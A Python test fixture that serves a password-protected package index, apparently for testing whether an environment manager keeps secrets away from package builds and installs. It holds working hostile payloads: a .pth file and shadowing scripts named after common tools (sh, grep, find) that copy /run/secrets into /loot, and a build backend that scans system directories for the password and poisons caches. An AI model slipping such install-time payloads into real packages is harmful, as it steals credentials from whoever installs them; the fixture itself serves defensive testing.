"""A package index that asks for a password. It serves a harmless and a hostile wheel, and a package that has to be built, whose
code leaves a mark in the file of the second argument: one writes down what it needs, the other one does not. Prints its port."""

import base64
import hashlib
import http.server
import io
import sys
import tarfile
import zipfile

PASSWORD, MARK = sys.argv[1:]
STEAL = "#!/bin/sh\nmkdir -p /loot; cat /run/secrets/* > /loot/secrets; echo poison > /var/cache/envctl-uv/poison\nexit 1\n"


def wheel(name, files):
    info = f"{name}-1.0.dist-info"
    files = {
        f"{name}.py": "value = 1\n",
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        **files,
    }
    record = "".join(f"{path},,\n" for path in [*files, f"{info}/RECORD"])
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for path, text in [*files.items(), (f"{info}/RECORD", record)]:
            entry = zipfile.ZipInfo(path)
            entry.external_attr = 0o100755 << 16
            archive.writestr(entry, text)
    return content.getvalue()


# Its own build backend: nothing else is needed to build it. The module says what its build saw.
BACKEND = f"""
import os, zipfile
try:
    open({MARK!r}, "a").write("built\\n")
except OSError:
    pass
NAME = open("PKG-INFO").read().split("Name: ")[1].split()[0]
INFO = NAME + "-1.0.dist-info"

def seen():
    found = ["environment"] if {PASSWORD!r} in repr(os.environ) else []
    for place in ["/run", "/var/cache", "/var/tmp", "/tmp", "/etc", "/root", "/opt"]:
        for directory, _, names in os.walk(place):
            for path in (os.path.join(directory, name) for name in names if not name.startswith("backend")):
                try:
                    found += [path] if {PASSWORD!r}.encode() in open(path, "rb").read(100000) else []
                except OSError:
                    pass
    for cache in ["/var/cache/envctl-uv", "/var/cache/apt"]:
        try:
            open(cache + "/poison", "w").write("poison")
        except OSError:
            pass
    return found

FILES = {{
    NAME + ".py": f"value = 1\\nseen = {{seen()!r}}\\nuid = {{os.getuid()}}\\n",
    INFO + "/METADATA": f"Metadata-Version: 2.1\\nName: {{NAME}}\\nVersion: 1.0\\n",
    INFO + "/WHEEL": "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
}}
FILES[INFO + "/RECORD"] = "".join(path + ",,\\n" for path in [*FILES, INFO + "/RECORD"])

def build_wheel(directory, config_settings=None, metadata_directory=None):
    name = NAME + "-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        for path, text in FILES.items():
            wheel.writestr(path, text)
    return name

def build_sdist(directory, config_settings=None):
    raise NotImplementedError
"""


def sdist(name, version):
    files = {
        "PKG-INFO": f"Metadata-Version: {version}\nName: {name}\nVersion: 1.0\n",
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
        "backend.py": BACKEND,
    }
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w:gz") as archive:
        for path, text in files.items():
            entry = tarfile.TarInfo(f"{name}-1.0/{path}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    return content.getvalue()


TOOLS = ["find", "grep", "sed", "xargs", "chmod", "sh"]
PACKAGES = {
    "oldtool": ("oldtool-1.0.tar.gz", sdist("oldtool", "2.1")),
    "statictool": ("statictool-1.0.tar.gz", sdist("statictool", "2.2")),
    "labtool": ("labtool-1.0-py3-none-any.whl", wheel("labtool", {})),
    "evil": ("evil-1.0-py3-none-any.whl", wheel("evil", {
        "evil.pth": "import os; os.system('/bin/sh -c \"mkdir -p /loot; cat /run/secrets/* > /loot/pth\"')\n",
        **{f"evil-1.0.data/scripts/{tool}": STEAL for tool in TOOLS},
    })),
}


class Index(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        wanted = "Basic " + base64.b64encode(f"ada:{PASSWORD}".encode()).decode()
        if self.headers.get("Authorization") != wanted:
            self.answer(401, "text/plain", b"")
            return
        name = self.path.strip("/").split("/")[-1]
        package = name.split("-")[0]
        if package not in PACKAGES:
            self.answer(404, "text/plain", b"")
            return
        file, content = PACKAGES[package]
        if name == file:
            self.answer(200, "application/octet-stream", content)
        else:
            digest = hashlib.sha256(content).hexdigest()
            self.answer(200, "text/html", f'<a href="/{file}#sha256={digest}">{file}</a>'.encode())

    do_HEAD = do_GET

    def answer(self, status, kind, body):
        self.send_response(status)
        if status == 401:
            self.send_header("WWW-Authenticate", "Basic")
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command == "GET":
            self.wfile.write(body)

    def log_message(self, *_):
        pass


server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), Index)
print(server.server_address[1], flush=True)
server.serve_forever()
